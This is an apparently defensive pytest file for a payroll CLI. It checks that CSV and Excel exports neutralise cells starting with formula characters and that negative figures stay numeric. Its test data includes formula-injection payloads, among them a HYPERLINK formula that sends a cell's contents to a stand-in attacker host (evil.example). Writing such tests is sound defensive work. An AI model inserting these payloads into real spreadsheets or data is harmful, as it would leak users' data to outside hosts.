"""`eval --format csv` and `csv-excel` never hand a spreadsheet a formula: a text cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP); figures, negative
ones included, stay numbers. In the workbook (`xlsx`) such a text is a text cell, never a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

from kpilang.cli import main
from kpilang.payouts.csv import inert_text

from tests.conftest import NORMATIVE
from tests.normative_managers import normative_data_with

NAMES = {"m1": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "m2": "+7 (999) 123", "m3": "-2+3",
         "m4": "@SUM(A1:A9)"}


def _run(tmp_path, *options: str):
    data = normative_data_with(tmp_path / "data", names=NAMES)
    plan = tmp_path / "plan.kpi"
    plan.write_text((NORMATIVE / "cold_sales.kpi").read_text(encoding="utf-8").replace(
        'pay total "Итого к выплате" =\n    salary + bonus + commission',
        'pay deduction "Удержание" =\n    -1% * revenue\n\n'
        'pay total "Итого к выплате" =\n    salary + bonus + commission + deduction'), encoding="utf-8")
    result = CliRunner().invoke(main, ["eval", str(plan), "--data", str(data), "--period", "2026-07", *options])
    assert result.exit_code == 0, result.output
    return result


def _rows(tmp_path, fmt: str = "csv") -> list[dict[str, str]]:
    text = _run(tmp_path, "--format", fmt).stdout
    if fmt == "csv-excel":
        return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
def test_names_that_start_a_formula_are_text_in_the_csv(tmp_path, fmt):
    rows = {row["manager_id"]: row for row in _rows(tmp_path, fmt)}
    for pid, name in NAMES.items():
        assert rows[pid]["name"] == "'" + name


@pytest.mark.parametrize(("fmt", "m1_deduction"), [("csv", "-11500.01"), ("csv-excel", "-11500,01")])
def test_negative_figures_stay_numbers(tmp_path, fmt, m1_deduction):
    rows = _rows(tmp_path, fmt)
    deductions = [row["deduction"] for row in rows]
    assert deductions and all(d.startswith("-") and not d.startswith("'") for d in deductions)
    assert m1_deduction in deductions  # m1: -1% of 1 150 000,50, half up


def test_names_that_start_a_formula_are_text_cells_in_the_workbook(tmp_path):
    out = tmp_path / "payouts.xlsx"
    _run(tmp_path, "--format", "xlsx", "--out", str(out))
    sheet = openpyxl.load_workbook(out).worksheets[0]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for pid, name in NAMES.items():
        assert cells[pid].value == name and cells[pid].data_type == "s" and cells[pid].quotePrefix
    with zipfile.ZipFile(out) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere
    column = [c.value for c in sheet[1]].index("Удержание")  # the pay's label
    deduction = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "m1")[column]
    assert deduction.value == -11500.01 and deduction.data_type == "n"


def test_error_messages_are_neutralised_like_any_text():
    assert inert_text("-1 error") == "'-1 error"
    assert inert_text("\tx") == "'\tx" and inert_text("\rx") == "'\rx"
    assert inert_text("Анна") == "Анна" and inert_text("") == ""


@given(st.text())
def test_no_text_cell_starts_a_formula(text):
    cell = inert_text(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)
